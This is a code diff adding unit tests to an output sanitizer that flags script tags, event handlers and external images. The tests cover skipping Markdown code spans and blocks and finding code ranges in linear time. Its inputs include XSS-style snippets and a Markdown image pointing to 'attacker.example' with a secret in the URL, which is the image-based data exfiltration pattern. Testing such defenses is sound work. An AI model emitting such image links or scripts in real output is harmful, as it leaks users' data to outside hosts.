@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { checker } from '../../detectors/testing/harness.ts';
 import { linearTimeStatus } from '../../testing/linear-time.ts';
+import { markdownCodeRanges } from './code-ranges.ts';
 import * as P from './sandboxed-output.ts';
 
 const g = P.sandboxedOutput;
@@ -33,6 +34,39 @@ describe('SandboxedOutput', () => {
       [],
     );
     expect(types('![](https://other.org/i.png)', { blockExternalImages: true })).toEqual(['external_image']);
+  });
+  it('skips Markdown code spans and code blocks, which render as text, unless told not to', () => {
+    expect(types('Add `<script src="app.js"></script>` before the closing body tag.')).toEqual([]);
+    expect(
+      types(
+        'Example:\n\n```html\n<iframe src="https://maps.example"></iframe>\n<img src=x onerror="f()">\n```\nDone.',
+      ),
+    ).toEqual([]);
+    expect(types('~~~\n<script>x</script>\n~~~')).toEqual([]);
+    expect(types('``a ` <script>x</script> b``')).toEqual([]);
+    // Outside the code, or with the code read as HTML, it still fails.
+    expect(types('`ok` <script>alert(1)</script> `ok`')).toEqual(['active_html']);
+    expect(types('Add `<script>x</script>` here.', { codeIsText: false })).toEqual(['active_html']);
+    // An unmatched backtick opens no span; a blank line ends one.
+    expect(types('a ` <script>x</script>')).toEqual(['active_html']);
+    expect(types('a `\n\n<script>x</script> `')).toEqual(['active_html']);
+    // An image inside code is text too; a fence left open runs to the end, as renderers show it.
+    expect(types('```\n![](https://attacker.example/log?q=secret)')).toEqual([]);
+  });
+  it('finds code ranges in linear time', () => {
+    const started = performance.now();
+    for (const text of [
+      '`'.repeat(1_000_000),
+      '` ``'.repeat(250_000),
+      '```\n'.repeat(250_000),
+      'a`b``c'.repeat(160_000),
+    ])
+      markdownCodeRanges(text);
+    expect(performance.now() - started).toBeLessThan(2000);
+    expect(markdownCodeRanges('x `a` y ``b`` z')).toEqual([
+      [2, 5],
+      [8, 13],
+    ]);
   });
   it('redacts what it finds', () => {
     const r = checker(g)('ok <script>x</script> ok');
